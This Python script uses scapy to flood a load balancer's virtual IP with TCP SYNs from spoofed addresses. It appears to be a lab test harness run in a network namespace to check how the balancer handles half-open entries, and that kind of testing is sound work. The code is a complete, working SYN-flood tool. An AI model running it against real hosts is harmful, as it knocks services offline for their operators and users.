"""Floods a VIP with TCP SYNs from spoofed sources that never answer (run with
Debian's /usr/bin/python3 inside the client namespace): the balancer's entries
for them stay half-open.

    syn_flood.py IFACE DST_MAC VIP SECONDS

Prints the number of SYNs sent.
"""

import random
import sys
import time

from scapy.all import IP, TCP, Ether, conf, get_if_hwaddr

# Nobody holds these addresses: the backends' SYN-ACKs reach the client
# namespace's link and are dropped there without a reset.
SPOOFED = "198.18.7.{}"


def main():
    iface, dst_mac, vip, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
    src_mac = get_if_hwaddr(iface)
    rnd = random.Random(7)
    frames = [
        bytes(Ether(src=src_mac, dst=dst_mac)
              / IP(src=SPOOFED.format(rnd.randint(1, 250)), dst=vip)
              / TCP(sport=rnd.randint(1024, 65535), dport=80, flags="S", seq=rnd.getrandbits(32)))
        for _ in range(4000)
    ]
    sock = conf.L2socket(iface=iface)
    sent, end = 0, time.time() + seconds
    while time.time() < end:
        for f in frames[sent % len(frames):][:100]:
            sock.send(f)
            sent += 1
        time.sleep(0.01)
    sock.close()
    print(sent)


if __name__ == "__main__":
    main()
